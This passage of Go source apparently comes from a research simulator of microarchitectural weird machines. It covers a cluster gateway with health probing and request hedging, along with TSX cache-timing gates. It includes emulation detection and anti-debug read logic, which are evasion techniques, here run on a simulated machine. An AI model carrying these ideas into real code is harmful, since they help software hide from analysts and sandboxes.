	probeFailures *metrics.Counter
}

// newPool builds the pool and starts the probe loop. URLs are
// normalized to scheme://host:port form (a bare host:port gets
// http://).
func newPool(urls []string, interval time.Duration, client *http.Client, reg *metrics.Registry) *Pool {
	p := &Pool{
		interval: interval,
		client:   client,
		stop:     make(chan struct{}),
		done:     make(chan struct{}),
	}
	for i, u := range urls {
		b := &Backend{URL: normalizeURL(u), Index: i, state: StateUnknown}
		p.backends = append(p.backends, b)
		label := metrics.L("backend", strconv.Itoa(i))
		reg.GaugeFunc(MetricBackendUp, "1 while the backend is routable", func() float64 {
			if b.routable(time.Now()) {
				return 1
			}
			return 0
		}, label)
		reg.GaugeFunc(MetricBackendEWMA, "EWMA of successful request latency in seconds",
			func() float64 { b.mu.Lock(); defer b.mu.Unlock(); return b.ewma }, label)
		reg.GaugeFunc(MetricBackendInflight, "requests currently proxied to the backend",
			func() float64 { return float64(b.inflight.Load()) }, label)
	}
	p.probeFailures = reg.Counter(MetricProbeFailures, "health probes that found a backend unreachable")
	go p.run()
	return p
}

// normalizeURL accepts host:port or a full URL and returns
// scheme://host:port without a trailing slash.
func normalizeURL(u string) string {
	u = strings.TrimRight(u, "/")
	if !strings.Contains(u, "://") {
		u = "http://" + u
	}
	return u
}

// Backends returns the pool's members in index order.
func (p *Pool) Backends() []*Backend { return p.backends }

// run is the probe loop: one immediate round, then one per interval,
// until Close.
func (p *Pool) run() {
	defer close(p.done)
	p.probeAll()
	t := time.NewTicker(p.interval)
	defer t.Stop()
	for {
		select {
		case <-p.stop:
			return
		case <-t.C:
			p.probeAll()
		}
	}
}

// Close stops the probe loop and waits for it to exit.
func (p *Pool) Close() {
	p.stopOnce.Do(func() { close(p.stop) })
	<-p.done
}

// probeAll probes every backend concurrently; a slow backend must not
// delay the others' state refresh.
func (p *Pool) probeAll() {
	var wg sync.WaitGroup
	for _, b := range p.backends {
		wg.Add(1)
		go func(b *Backend) {
			defer wg.Done()
			p.probe(b)
		}(b)
	}
	wg.Wait()
}

// healthzProbe mirrors the httpapi healthz body fields the prober
// reads.
type healthzProbe struct {
	Status string `json:"status"`
}

// sloProbe mirrors the GET /v1/slo fields the prober reads.
type sloProbe struct {
	SLOs []struct {
		BudgetRemaining float64 `json:"budget_remaining"`
	} `json:"slos"`
}

// probe refreshes one backend's state from its /healthz (routability)
// and /v1/slo (weight penalty while any error budget is exhausted).
func (p *Pool) probe(b *Backend) {
	b.probes.Add(1)
	b.mu.Lock()
	b.lastProbe = time.Now()
	b.mu.Unlock()

	resp, err := p.client.Get(b.URL + "/healthz")
	if err != nil {
		b.probeFails.Add(1)
		p.probeFailures.Inc()
		b.markDown(err.Error())
		return
	}
	var hz healthzProbe
	decodeErr := json.NewDecoder(resp.Body).Decode(&hz)
	resp.Body.Close()
	switch {
	case resp.StatusCode == http.StatusOK:
		b.markUp()
	case resp.StatusCode == http.StatusServiceUnavailable:
		reason := hz.Status
		if decodeErr != nil || reason == "" {
			reason = "healthz 503"
		}
		b.markDraining(reason)
		return
	default:
		b.probeFails.Add(1)
		p.probeFailures.Inc()
		b.markDown("healthz status " + strconv.Itoa(resp.StatusCode))
		return
	}

	// SLO budget probe: best-effort garnish. A backend without the SLO
	// engine (404) or an unreadable body just clears the penalty.
	degraded := false
	if resp, err := p.client.Get(b.URL + "/v1/slo"); err == nil {
		if resp.StatusCode == http.StatusOK {
			var sp sloProbe
			if json.NewDecoder(resp.Body).Decode(&sp) == nil {
				for _, s := range sp.SLOs {
					if s.BudgetRemaining <= 0 {
						degraded = true
					}
				}
			}
		}
		resp.Body.Close()
	}
	b.mu.Lock()
	b.sloDegraded = degraded
	b.mu.Unlock()
}

// Pick selects the backend for an affinity key with weighted
// rendezvous hashing: every backend scores -weight/ln(h(key,backend))
// and the best routable, non-excluded score wins. The same key lands
// on the same backend while the pool is stable — that is the
// calibration-affinity property: a job family keeps hitting the
// backend whose workers' machines are warm for it — yet each backend's
// share of the keyspace scales with its latency-derived weight, and
// removing a backend only remaps the keys it owned.
//
// When no routable backend remains, Pick falls back to any
// non-excluded backend regardless of state: trying a draining node and
// surfacing its 503 beats refusing on possibly-stale probe data.
func (p *Pool) Pick(key string, excluded map[int]bool) *Backend {
	now := time.Now()
	if b := p.pick(key, excluded, func(b *Backend) bool { return b.routable(now) }); b != nil {
		return b
	}
	return p.pick(key, excluded, func(*Backend) bool { return true })
}

func (p *Pool) pick(key string, excluded map[int]bool, eligible func(*Backend) bool) *Backend {
	var best *Backend
	bestScore := math.Inf(-1)
	for _, b := range p.backends {
		if excluded[b.Index] || !eligible(b) {
			continue
		}
		s := rendezvousScore(key, b.URL, b.weight())
		if s > bestScore {
			best, bestScore = b, s
		}
	}
	return best
}

// rendezvousScore is the weighted-rendezvous score: hash (key,
// backend) to a uniform u in (0,1), score -w/ln(u). Scores follow an
// exponential distribution with rate 1/w, so each backend wins a
// keyspace share proportional to its weight.
func rendezvousScore(key, url string, w float64) float64 {
	h := fnv.New64a()
	h.Write([]byte(key))
	h.Write([]byte{0xff})
	h.Write([]byte(url))
	// 53 mantissa bits of the hash, mapped into (0,1]; nudge 0 off the
	// log's pole.
	u := float64(h.Sum64()>>11) / float64(1<<53)
	if u <= 0 {
		u = 1 / float64(1<<53)
	}
	if w <= 0 {
		w = 1e-9
	}
	return -w / math.Log(u)
}
