package cluster

import (
	"io"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

func TestHedgerBudgetPacing(t *testing.T) {
	h := newHedger(0.5, time.Millisecond, time.Second, 5*time.Millisecond)
	if h.allow() {
		t.Fatal("empty budget allowed a hedge")
	}
	if st := h.stats(); st.Suppressed != 1 {
		t.Fatalf("suppressed = %d, want 1", st.Suppressed)
	}
	h.earn()
	h.earn() // two primaries at budget 0.5 buy one hedge
	if !h.allow() {
		t.Fatal("earned budget refused a hedge")
	}
	if h.allow() {
		t.Fatal("spent budget allowed a second hedge")
	}
	for i := 0; i < 1000; i++ {
		h.earn()
	}
	if st := h.stats(); st.Budget != 10 {
		t.Fatalf("budget = %v after 1000 earns, want the cap of 10", st.Budget)
	}
}

func TestHedgerDelayClampsAndColdStart(t *testing.T) {
	h := newHedger(0.1, 10*time.Millisecond, 100*time.Millisecond, 40*time.Millisecond)
	if d := h.delay("cold"); d != 40*time.Millisecond {
		t.Fatalf("cold delay = %v, want 40ms", d)
	}

	// Below hedgeMinSamples the type still uses the cold delay.
	for i := 0; i < hedgeMinSamples-1; i++ {
		h.observe("warming", time.Second)
	}
	if d := h.delay("warming"); d != 40*time.Millisecond {
		t.Fatalf("under-sampled delay = %v, want the 40ms cold delay", d)
	}

	// A fast type's p95 clamps up to MinDelay...
	for i := 0; i < 2*hedgeMinSamples; i++ {
		h.observe("fast", 500*time.Microsecond)
	}
	if d := h.delay("fast"); d != 10*time.Millisecond {
		t.Fatalf("fast-type delay = %v, want the 10ms floor", d)
	}
	// ...and a slow type's clamps down to MaxDelay.
	for i := 0; i < 2*hedgeMinSamples; i++ {
		h.observe("slow", 10*time.Second)
	}
	if d := h.delay("slow"); d != 100*time.Millisecond {
		t.Fatalf("slow-type delay = %v, want the 100ms ceiling", d)
	}
}

func TestHedgerNilIsInert(t *testing.T) {
	var h *hedger
	h.earn()
	h.observe("x", time.Second)
	h.recordOutcome(true)
	if h.allow() {
		t.Fatal("nil hedger allowed a hedge")
	}
	if d := h.delay("x"); d != 0 {
		t.Fatalf("nil hedger delay = %v, want 0", d)
	}
	if st := h.stats(); st != (HedgeStats{}) {
		t.Fatalf("nil hedger stats = %+v, want zero", st)
	}
}

// TestHedgeCancelsLoserAndLeaksNothing is the goroutine-hygiene check
// for hedged submissions, mirroring the SSE goroutine-release tests:
// the first attempt to reach a backend wedges until its request context
// is canceled, the racing attempt answers immediately, and after the
// winner is relayed the loser's handler must observe cancellation and
// every goroutine (launcher, proxied request, blocked handler) must
// unwind — no goroutine or response-body leaks.
func TestHedgeCancelsLoserAndLeaksNothing(t *testing.T) {
	var wedged atomic.Int32
	loserCanceled := make(chan struct{})
	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/healthz":
			_, _ = io.WriteString(w, `{"status":"ok"}`)
		case r.Method == http.MethodPost && r.URL.Path == "/v1/jobs":
			if wedged.CompareAndSwap(0, 1) {
				// First attempt in: wedge until the gateway cancels us.
				// The body must be drained first — net/http only watches
				// for client disconnect (which fires this context) once
				// the request body has been consumed.
				_, _ = io.Copy(io.Discard, r.Body)
				<-r.Context().Done()
				close(loserCanceled)
				return
			}
			w.Header().Set("Content-Type", "application/json")
			_, _ = io.WriteString(w, `{"id":"job-hedge-1","status":"done"}`)
		default:
			http.NotFound(w, r)
		}
	})
	b1 := httptest.NewServer(handler)
	defer b1.Close()
	b2 := httptest.NewServer(handler)
	defer b2.Close()

	// Keep-alive connections park persistent readLoop/writeLoop
	// goroutines in the transport; disable them so the goroutine count
	// can converge back to the baseline.
	noKeepAlive := func() *http.Client {
		return &http.Client{Transport: &http.Transport{DisableKeepAlives: true}}
	}
	before := runtime.NumGoroutine()

	gw, err := New(Config{
		Backends:       []string{b1.URL, b2.URL},
		ProbeInterval:  time.Hour, // one startup round, then silence
		CacheEntries:   -1,
		Hedge:          true,
		HedgeBudget:    1, // the first earn funds the hedge
		HedgeMinDelay:  time.Millisecond,
		HedgeColdDelay: 5 * time.Millisecond,
		Client:         noKeepAlive(),
		ProbeClient:    noKeepAlive(),
	})
	if err != nil {
		t.Fatal(err)
	}

	req := httptest.NewRequest(http.MethodPost, "/v1/jobs?wait=1",
		strings.NewReader(`{"type":"gate","params":{"gate":"TSX_XOR","random":4}}`))
	req.Header.Set("Content-Type", "application/json")
	rr := httptest.NewRecorder()
	gw.ServeHTTP(rr, req)

	if rr.Code != http.StatusOK {
		t.Fatalf("status %d, want 200: %s", rr.Code, rr.Body.String())
	}
	if !strings.Contains(rr.Body.String(), "job-hedge-1") {
		t.Fatalf("winner's body not relayed: %s", rr.Body.String())
	}
	select {
	case <-loserCanceled:
	case <-time.After(5 * time.Second):
		t.Fatal("losing attempt's request context was never canceled")
	}
	st := gw.hedge.stats()
	if st.Launched != 1 || st.Won+st.Lost != 1 {
		t.Fatalf("hedge stats = %+v, want exactly one decided hedge", st)
	}

	gw.Close()
	deadline := time.Now().Add(10 * time.Second)
	for {
		if n := runtime.NumGoroutine(); n <= before+2 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("goroutines leaked after hedged race: %d before, %d after",
				before, runtime.NumGoroutine())
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestHedgeSuppressedWithoutBudget pins the budget rule end to end: a
// gateway whose hedge budget cannot cover a hedge keeps waiting on the
// primary instead of launching a second attempt.
func TestHedgeSuppressedWithoutBudget(t *testing.T) {
	var posts atomic.Int32
	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/healthz":
			_, _ = io.WriteString(w, `{"status":"ok"}`)
		case r.Method == http.MethodPost && r.URL.Path == "/v1/jobs":
			posts.Add(1)
			time.Sleep(30 * time.Millisecond) // slower than the hedge delay
			w.Header().Set("Content-Type", "application/json")
			_, _ = io.WriteString(w, `{"id":"job-slow-1","status":"done"}`)
		default:
			http.NotFound(w, r)
		}
	})
	b1 := httptest.NewServer(handler)
	defer b1.Close()
	b2 := httptest.NewServer(handler)
	defer b2.Close()

	gw, err := New(Config{
		Backends:       []string{b1.URL, b2.URL},
		ProbeInterval:  time.Hour,
		CacheEntries:   -1,
		Hedge:          true,
		HedgeBudget:    0.01, // one request earns far less than one token
		HedgeMinDelay:  time.Millisecond,
		HedgeColdDelay: 2 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer gw.Close()

	req := httptest.NewRequest(http.MethodPost, "/v1/jobs?wait=1",
		strings.NewReader(`{"type":"gate","params":{"gate":"TSX_XOR","random":4}}`))
	rr := httptest.NewRecorder()
	gw.ServeHTTP(rr, req)

	if rr.Code != http.StatusOK {
		t.Fatalf("status %d, want 200: %s", rr.Code, rr.Body.String())
	}
	if n := posts.Load(); n != 1 {
		t.Fatalf("%d backend submissions, want 1 (hedge must be suppressed)", n)
	}
	st := gw.hedge.stats()
	if st.Launched != 0 || st.Suppressed != 1 {
		t.Fatalf("hedge stats = %+v, want 0 launched / 1 suppressed", st)
	}
}
