package cluster

import (
	"sync"
	"time"

	"uwm/internal/metrics"
)

// hedgeLatencyBuckets spans the same range as the engine's job-latency
// histogram: sub-millisecond gate evaluations up to minute-scale
// hashes.
var hedgeLatencyBuckets = []float64{
	0.001, 0.0025, 0.005, 0.01, 0.025, 0.05, 0.1,
	0.25, 0.5, 1, 2.5, 5, 10, 30, 60, 120,
}

// hedgeMinSamples is how many latency samples a job type needs before
// its own p95 drives the hedge delay; colder types use ColdDelay.
const hedgeMinSamples = 20

// hedger decides when a sync submission earns a second, racing
// attempt on another backend. Two rules bound the cost:
//
//   - the delay is the job type's observed p95 latency (clamped into
//     [MinDelay, MaxDelay]), so only the slowest ~5% of requests ever
//     hedge — the tail, which is exactly where a second backend pays;
//   - a token budget caps hedges at Budget (~10%) of traffic: every
//     primary submission earns Budget tokens, a hedge spends one, so a
//     pathological regime (every request slow) degrades to budget-paced
//     hedging instead of doubling cluster load.
type hedger struct {
	mu        sync.Mutex
	lat       map[string]*metrics.Histogram
	tokens    float64
	maxTokens float64
	perReq    float64
	minDelay  time.Duration
	maxDelay  time.Duration
	coldDelay time.Duration

	launched, won, lost, suppressed uint64
}

func newHedger(budget float64, minDelay, maxDelay, coldDelay time.Duration) *hedger {
	return &hedger{
		lat:       make(map[string]*metrics.Histogram),
		perReq:    budget,
		maxTokens: 10, // burst headroom: at most 10 back-to-back hedges
		minDelay:  minDelay,
		maxDelay:  maxDelay,
		coldDelay: coldDelay,
	}
}

// earn credits the budget for one primary submission.
func (h *hedger) earn() {
	if h == nil {
		return
	}
	h.mu.Lock()
	h.tokens += h.perReq
	if h.tokens > h.maxTokens {
		h.tokens = h.maxTokens
	}
	h.mu.Unlock()
}

// allow spends one token if the budget covers a hedge right now;
// a refusal is counted as suppressed.
func (h *hedger) allow() bool {
	if h == nil {
		return false
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.tokens < 1 {
		h.suppressed++
		return false
	}
	h.tokens--
	h.launched++
	return true
}

// delay returns how long the gateway waits on the primary before
// hedging a submission of this job type.
func (h *hedger) delay(jobType string) time.Duration {
	if h == nil {
		return 0
	}
	h.mu.Lock()
	hist := h.lat[jobType]
	h.mu.Unlock()
	d := h.coldDelay
	if hist.Count() >= hedgeMinSamples {
		d = time.Duration(hist.Quantile(0.95) * float64(time.Second))
	}
	if d < h.minDelay {
		d = h.minDelay
	}
	if d > h.maxDelay {
		d = h.maxDelay
	}
	return d
}

// observe feeds one completed submission's latency into the per-type
// p95 estimate.
func (h *hedger) observe(jobType string, d time.Duration) {
	if h == nil {
		return
	}
	h.mu.Lock()
	hist := h.lat[jobType]
	if hist == nil {
		hist = metrics.NewHistogram(hedgeLatencyBuckets)
		h.lat[jobType] = hist
	}
	h.mu.Unlock()
	hist.Observe(d.Seconds())
}

// recordOutcome tallies which attempt won a hedged race.
func (h *hedger) recordOutcome(hedgeWon bool) {
	if h == nil {
		return
	}
	h.mu.Lock()
	if hedgeWon {
		h.won++
	} else {
		h.lost++
	}
	h.mu.Unlock()
}

// HedgeStats is the hedger's accounting, served on GET /v1/cluster
// and mirrored into the gateway metrics.
type HedgeStats struct {
	Launched   uint64 `json:"launched"`
	Won        uint64 `json:"won"`
	Lost       uint64 `json:"lost"`
	Suppressed uint64 `json:"suppressed"`
	// Budget is the current token balance; one hedge costs one token.
	Budget float64 `json:"budget"`
}

func (h *hedger) stats() HedgeStats {
	if h == nil {
		return HedgeStats{}
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	return HedgeStats{
		Launched:   h.launched,
		Won:        h.won,
		Lost:       h.lost,
		Suppressed: h.suppressed,
		Budget:     h.tokens,
	}
}
