package core

import (
	"strings"
	"testing"

	"uwm/internal/metrics"
	"uwm/internal/noise"
	"uwm/internal/trace"
)

// TestRecalibratePreservesNoisePinning is the determinism contract behind
// self-recalibrating workers: a recalibration mid-run must neither change
// the threshold (under an unchanged noise profile) nor shift the position
// of the noise stream observed by subsequent gate activations.
func TestRecalibratePreservesNoisePinning(t *testing.T) {
	run := func(recal bool) ([]int64, int64) {
		m := MustNewMachine(Options{Seed: 5, Noise: noise.Paper()})
		g, err := NewTSXXor(m)
		if err != nil {
			t.Fatal(err)
		}
		var deltas []int64
		for i := 0; i < 50; i++ {
			_, d, err := g.RunTimed(i&1, i>>1&1)
			if err != nil {
				t.Fatal(err)
			}
			deltas = append(deltas, d[0])
		}
		if recal {
			if err := m.Recalibrate(); err != nil {
				t.Fatal(err)
			}
		}
		for i := 0; i < 50; i++ {
			_, d, err := g.RunTimed(i&1, i>>1&1)
			if err != nil {
				t.Fatal(err)
			}
			deltas = append(deltas, d[0])
		}
		return deltas, m.Threshold()
	}
	base, th0 := run(false)
	recal, th1 := run(true)
	if th0 != th1 {
		t.Errorf("recalibration moved the threshold under unchanged noise: %d -> %d", th0, th1)
	}
	for i := range base {
		if base[i] != recal[i] {
			t.Fatalf("delta %d diverged after recalibration: %d vs %d — noise stream not pinned", i, base[i], recal[i])
		}
	}
}

// TestRecalibrateTracksDrift injects the constant DRAM-latency shift the
// health monitor is built to detect and checks that recalibration moves
// the threshold with it: miss latencies shift by the full delta, so the
// hit/miss midpoint shifts by about half.
func TestRecalibrateTracksDrift(t *testing.T) {
	reg := metrics.NewRegistry()
	m := MustNewMachine(Options{Seed: 9, Metrics: reg})
	th0 := m.Threshold()
	if m.Calibrations() != 1 {
		t.Fatalf("calibrations after construction = %d, want 1", m.Calibrations())
	}

	cfg := m.Noise().Config()
	cfg.MemLatencyDelta = -40
	m.Noise().SetConfig(cfg)
	if err := m.Recalibrate(); err != nil {
		t.Fatal(err)
	}
	th1 := m.Threshold()
	shift := th1 - th0
	if shift < -40 || shift > -10 {
		t.Errorf("threshold shift %d after MemLatencyDelta=-40, want about -20", shift)
	}
	if m.Calibrations() != 2 {
		t.Errorf("calibrations = %d, want 2", m.Calibrations())
	}
	if got := reg.Counter(MetricRecalibrations, "").Value(); got != 1 {
		t.Errorf("recalibration counter = %v, want 1", got)
	}
	if g := reg.Gauge(MetricThreshold, "").Value(); int64(g) != th1 {
		t.Errorf("threshold gauge = %v, want %d", g, th1)
	}
}

// TestCalibrationEventsEmitted checks that every calibration — including
// the initial one at construction — appears on the μarch trace plane, so
// an offline replay can reconstruct the threshold history.
func TestCalibrationEventsEmitted(t *testing.T) {
	rec := trace.NewRecorder(0)
	m := MustNewMachine(Options{Seed: 3, Trace: rec})
	evs := rec.Filter(trace.KindCalibration)
	if len(evs) != 1 {
		t.Fatalf("calibration events after construction = %d, want 1", len(evs))
	}
	if int64(evs[0].Value) != m.Threshold() {
		t.Errorf("event threshold = %d, want %d", evs[0].Value, m.Threshold())
	}
	if !strings.Contains(evs[0].Text, "hit=") || !strings.Contains(evs[0].Text, "miss=") {
		t.Errorf("event text %q missing hit/miss medians", evs[0].Text)
	}
	if evs[0].Kind.Architectural() {
		t.Error("calibration leaked to the architectural plane")
	}
	if err := m.Recalibrate(); err != nil {
		t.Fatal(err)
	}
	if got := rec.Count(trace.KindCalibration); got != 2 {
		t.Errorf("calibration events after Recalibrate = %d, want 2", got)
	}
}

// TestHealthTap checks the dedicated health feed: with no full sink
// attached, the tap still receives calibration and timed-read events —
// and nothing else, so the CPU's per-instruction emission stays elided.
func TestHealthTap(t *testing.T) {
	tap := trace.NewRecorder(0)
	m := MustNewMachine(Options{Seed: 6, TrainIterations: 4, HealthTap: tap})
	if got := tap.Count(trace.KindCalibration); got != 1 {
		t.Fatalf("tap calibrations = %d, want 1", got)
	}
	g, err := NewTSXAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := g.Run(1, 1); err != nil {
		t.Fatal(err)
	}
	if got := tap.Count(trace.KindTimedRead); got == 0 {
		t.Error("tap saw no timed reads")
	}
	for _, e := range tap.Events() {
		if e.Kind != trace.KindCalibration && e.Kind != trace.KindTimedRead {
			t.Fatalf("tap received %v — must only see calibration and timed reads", e.Kind)
		}
	}
}

// TestAnnotate checks span attribute plumbing: annotations attach to the
// innermost open span and vanish silently when no span (or sink) exists.
func TestAnnotate(t *testing.T) {
	rec := trace.NewRecorder(0)
	m := MustNewMachine(Options{Seed: 4, Trace: rec})

	m.Annotate("orphan=1") // no span open: dropped
	if rec.Count(trace.KindAnnotation) != 0 {
		t.Fatal("annotation emitted with no open span")
	}

	id := m.BeginSpan("job:test")
	m.Annotate("request_id=abc123")
	m.EndSpan(id)

	evs := rec.Filter(trace.KindAnnotation)
	if len(evs) != 1 {
		t.Fatalf("annotations = %d, want 1", len(evs))
	}
	if evs[0].Addr != id {
		t.Errorf("annotation span id = %d, want %d", evs[0].Addr, id)
	}
	if evs[0].Text != "request_id=abc123" {
		t.Errorf("annotation text = %q", evs[0].Text)
	}
	if evs[0].Kind.Architectural() {
		t.Error("annotation leaked to the architectural plane")
	}

	// Uninstrumented machine: both calls must be free no-ops.
	m2 := quiet(t)
	id2 := m2.BeginSpan("job:test")
	m2.Annotate("k=v")
	m2.EndSpan(id2)
}
