package core

import "fmt"

// Emulation detection (paper §2.1, "Preventing emulation"): a μWM can
// refuse to compute anywhere but on real hardware, because emulators
// and binary-analysis sandboxes implement the ISA but not the
// microarchitectural side effects the gates compute with. An emulator
// that executes a TSX region "correctly" — rolling the abort back with
// no transient window — never fills the gate's output line, so an
// assignment of 1 reads back 0.
//
// DetectEmulation runs that probe: it fires a TSX assign gate with
// input 1 a number of times and reports the observed pass rate. On
// real hardware (a simulator configured with transient windows) the
// rate sits near the gate's accuracy (≳0.9); on an emulator (window
// length zero) it is ≈0.

// EmulationVerdict is the result of an emulation-detection probe.
type EmulationVerdict struct {
	Trials   int
	Passed   int // probes whose value survived the microarchitecture
	PassRate float64
	// RealHardware is the verdict: true when the transient channel
	// works well enough to carry computation.
	RealHardware bool
}

// String renders the verdict for logs.
func (v EmulationVerdict) String() string {
	kind := "EMULATED (no transient execution observed)"
	if v.RealHardware {
		kind = "real hardware (transient channel works)"
	}
	return fmt.Sprintf("%d/%d probes passed (%.2f): %s", v.Passed, v.Trials, v.PassRate, kind)
}

// emulationThreshold is the pass-rate boundary between "transient
// channel works" and "no transient execution": real gates sit above
// 0.9, emulators at ≈0 (stray fills only).
const emulationThreshold = 0.5

// DetectEmulation probes the machine trials times. It builds its own
// assign gate on m.
func DetectEmulation(m *Machine, trials int) (EmulationVerdict, error) {
	if trials <= 0 {
		trials = 16
	}
	g, err := NewTSXAssign(m)
	if err != nil {
		return EmulationVerdict{}, err
	}
	v := EmulationVerdict{Trials: trials}
	for i := 0; i < trials; i++ {
		out, err := g.Run(1)
		if err != nil {
			return v, err
		}
		if out[0] == 1 {
			v.Passed++
		}
	}
	v.PassRate = float64(v.Passed) / float64(trials)
	v.RealHardware = v.PassRate >= emulationThreshold
	return v, nil
}
