package core

import (
	"fmt"

	"uwm/internal/isa"
	"uwm/internal/mem"
	"uwm/internal/metrics"
)

// The TSX gate family (paper §4, Figure 3). Each gate's fire section is
// a transactional region that immediately divides by zero; the fault
// aborts the transaction (rolling back all architectural effects) but
// the pipeline keeps executing the following instructions transiently
// for a bounded window. Those instructions are dependent load chains
// over DC-WRs:
//
//	ASSIGN  out := a        load *a, then dereference (*a + &out)
//	AND     out := a & b    the chain needs both operands cached to
//	                        finish inside the window
//	OR      out := a | b    two independent assign chains
//	AND_OR  two outputs     Figure 3 verbatim: q0 := a&b, q1 := a|b
//	NOT     out := !a       out starts cached; a dependent eviction set
//	                        pushes it out when a is cached
//	XOR     out := a ^ b    §4.1: AND_OR + NOT + AND chained through
//	                        three transactions with no architectural
//	                        intermediate values — a weird circuit
//
// Unlike the BP family there is no training: TSX gates run orders of
// magnitude faster (Table 2) and compose into contiguous circuits
// because inputs and outputs are all DC-WRs (§4's two requirements).
//
// Inputs are written architecturally (touch or flush a line); outputs
// are read with a timed load inside a transaction of their own, so a
// debugger observing the read aborts it and destroys the value (§4).

// TSXGate is a weird gate of the transactional family.
type TSXGate struct {
	m       *Machine
	name    string
	arity   int
	outputs int
	prog    *isa.Program
	ins     []mem.Symbol
	outs    []mem.Symbol
	truth   func(in []int) []int
	// setEntries[i][b] caches the input-setter label names so the
	// per-activation path allocates no strings.
	setEntries [][2]string
	// span is the pre-built profiling frame name ("gate:TSX_AND"), so
	// activations never concatenate strings.
	span string

	fires   *metrics.Counter
	readLat *metrics.Histogram
}

// Name returns the gate's name.
func (g *TSXGate) Name() string { return g.name }

// Arity returns the number of logical inputs.
func (g *TSXGate) Arity() int { return g.arity }

// Outputs returns the number of logical outputs.
func (g *TSXGate) Outputs() int { return g.outputs }

// Program exposes the assembled program for disassembly and tests.
func (g *TSXGate) Program() *isa.Program { return g.prog }

// InputSymbol returns the DC-WR symbol of input i, letting circuits
// alias one gate's output line to another gate's input.
func (g *TSXGate) InputSymbol(i int) mem.Symbol { return g.ins[i] }

// OutputSymbol returns the DC-WR symbol of output i.
func (g *TSXGate) OutputSymbol(i int) mem.Symbol { return g.outs[i] }

// Golden returns the reference truth values for the inputs.
func (g *TSXGate) Golden(in []int) []int { return g.truth(in) }

// FireUses reports whether the fire section (the weird circuit itself)
// uses the given opcode.
func (g *TSXGate) FireUses(op isa.Op) bool {
	from := g.prog.MustEntry("fire")
	to := g.prog.MustEntry("read")
	return g.prog.Uses(op, from, to)
}

// WriteInput sets input i's DC-WR to the given bit architecturally
// (touch or flush), without firing the gate.
func (g *TSXGate) WriteInput(i, bit int) error {
	sp := g.m.BeginSpan(SpanWriteInput)
	_, err := g.m.run(g.prog, g.setEntries[i][bit&1])
	g.m.EndSpan(sp)
	return err
}

// Prep resets the gate's output registers (flushing plain outputs,
// pre-caching eviction targets) without firing.
func (g *TSXGate) Prep() error {
	sp := g.m.BeginSpan(SpanPrep)
	_, err := g.m.run(g.prog, "prep")
	g.m.EndSpan(sp)
	return err
}

// Fire executes the weird circuit once: inputs and outputs are whatever
// the cache currently holds. Use WriteInput/Prep first, or compose with
// other gates' outputs.
func (g *TSXGate) Fire() error {
	sp := g.m.BeginSpan(SpanFire)
	g.fires.Inc()
	for _, in := range g.ins {
		g.m.perturbData(in)
	}
	if _, err := g.m.run(g.prog, "fire"); err != nil {
		g.m.EndSpan(sp)
		return err
	}
	for _, out := range g.outs {
		g.m.perturbData(out)
	}
	g.m.EndSpan(sp)
	return nil
}

// ReadOutputs performs the transactional timed read of every output and
// returns the logic values and raw latencies.
func (g *TSXGate) ReadOutputs() ([]int, []int64, error) {
	sp := g.m.BeginSpan(SpanRead)
	if _, err := g.m.run(g.prog, "read"); err != nil {
		g.m.EndSpan(sp)
		return nil, nil, err
	}
	bits := make([]int, g.outputs)
	deltas := make([]int64, g.outputs)
	for i := 0; i < g.outputs; i++ {
		lo := isa.Reg(uint8(isa.R10) + uint8(2*i))
		hi := isa.Reg(uint8(isa.R10) + uint8(2*i+2))
		d := int64(g.m.cpu.Reg(hi) - g.m.cpu.Reg(lo))
		deltas[i] = d
		bits[i] = g.m.ToBit(d)
		g.readLat.Observe(float64(d))
		g.m.emitTimedRead(g.name, i, bits[i], d, g.outs[i].Addr)
	}
	g.m.EndSpan(sp)
	return bits, deltas, nil
}

// Run performs a complete activation: write inputs, reset outputs,
// fire, read. It returns the output bits.
func (g *TSXGate) Run(in ...int) ([]int, error) {
	bits, _, err := g.RunTimed(in...)
	return bits, err
}

// RunTimed is Run returning the measured read latencies as well — the
// raw data behind Tables 6 and 7.
func (g *TSXGate) RunTimed(in ...int) ([]int, []int64, error) {
	if len(in) != g.arity {
		return nil, nil, fmt.Errorf("core: gate %s wants %d inputs, got %d", g.name, g.arity, len(in))
	}
	sp := g.m.BeginSpan(g.span)
	for i, bit := range in {
		if err := g.WriteInput(i, bit); err != nil {
			g.m.EndSpan(sp)
			return nil, nil, err
		}
	}
	if err := g.Prep(); err != nil {
		g.m.EndSpan(sp)
		return nil, nil, err
	}
	if err := g.Fire(); err != nil {
		g.m.EndSpan(sp)
		return nil, nil, err
	}
	bits, deltas, err := g.ReadOutputs()
	g.m.EndSpan(sp)
	return bits, deltas, err
}

// tsxBuild bundles the builder state shared by the constructors.
type tsxBuild struct {
	b    *isa.Builder
	m    *Machine
	tag  string
	ins  []mem.Symbol
	outs []mem.Symbol
}

// newTsxBuild allocates symbols and emits the shared entries: per-input
// setters and the transactional read of the outputs.
func newTsxBuild(m *Machine, name string, nIn, nOut int) *tsxBuild {
	id := m.nextGateID()
	tag := fmt.Sprintf("g%d.%s", id, name)
	t := &tsxBuild{b: isa.NewBuilder(m.codeRegion()), m: m, tag: tag}
	for i := 0; i < nIn; i++ {
		t.ins = append(t.ins, m.layout.AllocLine(fmt.Sprintf("%s.in%d", tag, i)))
	}
	for i := 0; i < nOut; i++ {
		t.outs = append(t.outs, m.layout.AllocLine(fmt.Sprintf("%s.out%d", tag, i)))
	}
	for i, in := range t.ins {
		t.b.Label(fmt.Sprintf("setin%d_1", i)).Load(isa.R3, in, 0).Fence().Halt()
		t.b.Label(fmt.Sprintf("setin%d_0", i)).Clflush(in, 0).Fence().Halt()
	}
	return t
}

// emitRead emits the transactional timed read of all outputs. Timestamps
// land in R10, R12, R14, ... so output i's latency is R(10+2i+2)-R(10+2i).
// If the read transaction aborts (e.g. an observer single-steps it), the
// handler reports slow reads — every output collapses to 0, the paper's
// anti-debug behaviour.
func (t *tsxBuild) emitRead() {
	t.b.Label("read")
	// Settle: give in-flight transient fills time to land before the
